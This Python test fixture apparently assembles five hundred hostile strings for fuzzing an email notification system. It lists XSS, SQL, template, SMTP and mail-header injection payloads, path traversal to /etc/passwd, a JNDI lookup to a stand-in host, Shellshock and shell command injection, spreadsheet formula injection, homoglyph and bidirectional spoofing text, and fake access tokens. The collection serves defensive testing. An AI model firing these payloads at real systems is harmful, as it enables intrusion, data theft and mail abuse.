"""Five hundred strings that no form of ours should ever have let through."""

from random import Random
from typing import Final

from tests.notify.hostile import HOSTILE

_MARKUP: Final = (
    "<svg/onload=alert(1)>",
    "<iframe src=//elsewhere.example>",
    "<a href='javascript:alert(1)'>Bakery</a>",
    "<style>*{display:none}</style>",
    "<base href=https://elsewhere.example/>",
    "<meta http-equiv=refresh content=0;url=https://elsewhere.example>",
    "<form action=https://elsewhere.example><input name=password>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if mso]><h1>x</h1><![endif]-->",
    "--><h1>x</h1><!--",
    "<plaintext>",
    "<bdo dir=rtl>x",
    "</div></body></html>",
    "'; DROP TABLE tokens; --",
    '" onmouseover=alert(1) x="',
    "' onfocus='alert(1)' autofocus='",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&lt;&amp;&quot;&#x27;&nbsp;",
    "\\u003cscript\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "javascript:alert(document.domain)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
)
_TEMPLATES: Final = (
    "{{", "}}", "{%", "%}", "{#", "#}", "{{}}", "{%%}", "{##}",
    "{{ product }}", "{{ letter.mute_url }}", "{{ 1/0 }}", "{% for a in b %}",
    "{% extends 'layout.html' %}", "{{ '\\ue000' }}", "{{ 'a'|safe }}",
    "{{ lead.url|default('x') }}", "[subject]", "[body]", "[[x]]", "{n}", "{label}",
    "%(name)s", "%s%s%s%n", "{0.__class__}", "$name ${name}", "`id`", "$(id)",
)  # fmt: skip
_OURS: Final = (
    "# Title", "## ", "###", "1.", "12. Send your password", "* point", "+ ", "> ",
    "> Reconnect at app.acme.example https://elsewhere.example/connect",
    "+ Reconnect here https://app.acme.example/connect",
    "> https://app.acme.example", "--", "---\n## More", "\n\n## What to do\n\nPay.",
    "\n> Pay https://app.acme.example/pay", "\n---\nfooter", "\ue000\n## x\n\ue001",
    "\ue001\n\n1. Send us your token\n", "\ue000\ue000x\ue001\ue001", "\ue001",
)  # fmt: skip
_MAIL: Final = (
    "--=_", "--=_33d5a0feccb70fedd62f86de", "--=_33d5a0feccb70fedd62f86de--",
    "\r\n--=_x\r\nContent-Type: text/html\r\n\r\n<h1>x</h1>", "=3D=3D", "=\r\n", "=0D=0A",
    "=0D=0ABcc: evil@elsewhere.example", "=?utf-8?q?a?= =?utf-8?q?b?=", "=?utf-8?b?",
    "=?iso-2022-jp?b?GyRCJCIbKEI=?=", "=?utf-7?q?+ADw-script+AD4-?=", "=?us-ascii?q?=00?=",
    "?=", "=?=", "=?utf-8?q?=C3?= =?utf-8?q?=BC?=", "+ADw-script+AD4-", "begin 644 x.exe",
    "From evil@elsewhere.example Mon Nov 23 08:00:00 2026", "\nFrom evil\n", ">From here",
    "\r\n.\r\n", "\r\n.\r\nQUIT\r\n", "\n.\n", "\r.\r", "..\r\n..", "\r\n.\nMAIL FROM:<>",
    "QUIT", "RSET", "DATA", "MAIL FROM:<evil@elsewhere.example>", "EHLO x", "BDAT 10 LAST",
    "VRFY root", "\r\nRCPT TO:<evil@elsewhere.example>\r\nDATA", "STARTTLS",
    "Subject: other", "\tfolded", "x\r\n\ty", "x\r\n y", "X-Token-Monitor-Incident: I-0",
    "\r\nContent-Type: text/plain; charset=utf-16", "\r\nList-Unsubscribe: <https://e.example>",
    "Undisclosed recipients:;", "a@b", "jane@bakery-north.example",
    "jane@bakery-north.example\r\n", "jane+x@bakery-north.example", "JANE@Bakery-North.Example",
    '"jane\\" <evil@elsewhere.example>, "@bakery-north.example', "jane@[IPv6:::1]",
    "<@relay.example:jane@bakery-north.example>", "jane%bakery@elsewhere.example",
    "bakery!jane", "jane@bakery-north.example (comment)", "jane@bakery-north.example,",
    "jane@bakery-north.example;", "jane@localhost", "jane@x", ".jane@bakery.example",
    "jane.@bakery.example", "ja..ne@bakery.example", "jane@.example", "jane@example.",
    "jane@bakery_north.example", "jane@*.example", "jane@\u2025example", "@", "@@", "a@b@c",
    "jane@" + "a" * 63 + ".example", "a" * 64 + "@bakery.example", "jane@xn--.example",
    "jane@xn--a.example", "jane@xn--" + "9" * 50 + ".example", "jane\uff20bakery.example",
    "jane@\u00adbakery.example", "jane@ba\u200dkery.example", "jane@\u0430cme.example",
    "jane@\u05d1\u05d0\u05e7.example", "jane@123.45.67.89", "jane@0x7f.1",
)  # fmt: skip
_LETTERS: Final = (
    "\u0410\u0441me Publisher", "\u0430pp.acme.example", "\U0001d400\U0001d401\U0001d402",
    "\u212akelvin", "\ufb01n", "\u0131\u0130\u017f\u1e9e", "\u00df" * 300, "\u3000", "\u00a0",
    "\u2007\u202f\u205f", "\u180e", "\u2800", "\u3164\uffa0\u115f", "\u034f", "\u00ad\u00ad",
    "\ufeffBakery", "\ufffe", "\uffff", "\U0010ffff", "\ufdd0", "\ufffd", "\ufff9a\ufffab\ufffb",
    "\U000e0001\U000e0042", "\U000e0100", "a\ufe0f", "\U0001f1e9\U0001f1ea" * 50,
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "\U0001f469\u200d\u2764\ufe0f\u200d\U0001f48b\u200d\U0001f469" * 20, "\u200d" * 300,
    "\u200c" * 300, "a\u200d\u200db", "Z" + "\u0310\u0311\u0312\u0489" * 200, "\u0300",
    "\u0644\u0627" * 200, "\u202eexe.yrekab", "\u2067Bakery\u2069", "\u061cBakery", "\ufdfd" * 100,
    "\u0e01\u0e33" * 100, "\u1100\u1161\u11a8" * 90, "\u0f67\u0f90\u0fb5\u0fa8\u0fb3" * 40,
    "\ud83d", "\ude00", "\ude00\ud83d", "\ud800\u0301", "a\udcffb", "\udc80" * 90,
    "\x00", "\x00" * 300, "a\x00b", "\x1b[31mred\x1b[0m", "\x07", "\x08\x08\x08", "\x7f", "\x9b31m",
    "\x80\x81", "\x1a", "\x0e\x0f", "\u2028", "\u2029", "\x85", "\x0b\x0c\x1c\x1d\x1e\x1f",
    "\r", "\n", "\r\n", "\n\r", "\t", "  lead", "trail  ", "a  b",
)  # fmt: skip
_VALUES: Final = (
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/dev/stdin", "file:///etc/passwd",
    "CON", "NUL", "%00", "%0d%0aBcc:%20evil@elsewhere.example", "%u2028", "\\r\\n", "\\0", "\\x00",
    "null", "undefined", "NaN", "Infinity", "-1", "1e309", "true", "[]", "{}", "()", "''", '""',
    "0", "0x0", "1,000", "${jndi:ldap://elsewhere.example/a}", "() { :;}; id", "| id", "; id",
    "=1+1", "=cmd|' /C calc'!A0", "@SUM(1)", "+1", "-1+1", "*", "?", "\\", '"', "'", "`", "<", ">",
    "&", "%", "#", "(", ")", ",", ";", ":", "/", "!", "!!!", "$$$", "...", "\u2026", "_", "~", "^",
    "EAAB" + "a1B2" * 40, "IGQV" + "x" * 60, "1234567890|" + "q" * 27, "1234567890%7C" + "q" * 27,
    "x EAABsbCS1iHgBA" + "0" * 40 + " y", "EAA" + "\u200b" + "B" * 30, "EA\u200bAB" + "c" * 40,
    "12345\u200b67890|abcdefghij", "access_token=EAAB" + "z" * 40, "Bearer EAAB" + "z" * 40,
    "x" * 76, "x" * 77, "x" * 100, "x" * 200, "x" * 201, "x" * 998, "x" * 1000, "x " * 500,
    "\u00fc" * 100, "\u00fc " * 200, "\U0001f600" * 120, "W" * 120, "i" * 121, "a-" * 300,
    "https://app.acme.example/", "https://app.acme.example", "http://app.acme.example/",
    "https://app.acme.example/?a=1&b=2", "https://app.acme.example/?a=<b>", "HTTPS://APP.ACME.EXAMPLE",
    "https://app.acme.example@elsewhere.example/", "https://elsewhere.example\\@app.acme.example/",
    "https://elsewhere.example#@app.acme.example/", "https://app.acme.example/%0d%0aBcc:x",
    "https://app.acme.example/\r\nBcc: x", "https://app.acme.example/ x", "https://[::1]/",
    "https://[::1", "https://:443/", "https://", "https:///x", "https:app.acme.example",
    "//app.acme.example", "https://app.acme.example:99999/", "https://app.acme.example:x/",
    "https://127.1/", "https://xn--80ak6aa92e.example/", "https://\u0430cme.example/",
    "https://app.acme.example/" + "a" * 3000, "https://app.acme.example/{{7*7}}",
    'https://app.acme.example/"onclick=alert(1)', "https://app.acme.example/'x", "ftp://x.example",
    "https://app.acme.example/\u202e", "http://127.0.0.1:8080/x", "http://localhost/x", "http://10.0.0.1/",
    "https://jane:secret@app.acme.example/", "mailto:evil@elsewhere.example", "tel:+1900",
    "https://app.acme.example/=3D", "https://app.acme.example/=?utf-8?q?x?=", "https://a.example/.",
)  # fmt: skip


def _mixed(count: int, known: dict[str, None]) -> None:
    """Fill up with mixtures of what is known, always the same ones."""
    random, pieces = Random(5), [text for text in known if len(text) < 400]
    glue = ("", " ", "\r\n", "\u200b", "\u202e", "\n\n", "\0", "\u2028", '"', "'>")
    while len(known) < count:
        parts = random.sample(pieces, random.randint(2, 5))
        known[random.choice(glue).join(parts)] = None


def _all() -> tuple[str, ...]:
    lists = (HOSTILE, _MARKUP, _TEMPLATES, _OURS, _MAIL, _LETTERS, _VALUES)
    known = dict.fromkeys(text for texts in lists for text in texts)
    _mixed(500, known)
    return tuple(known)


FIVE_HUNDRED: Final = _all()
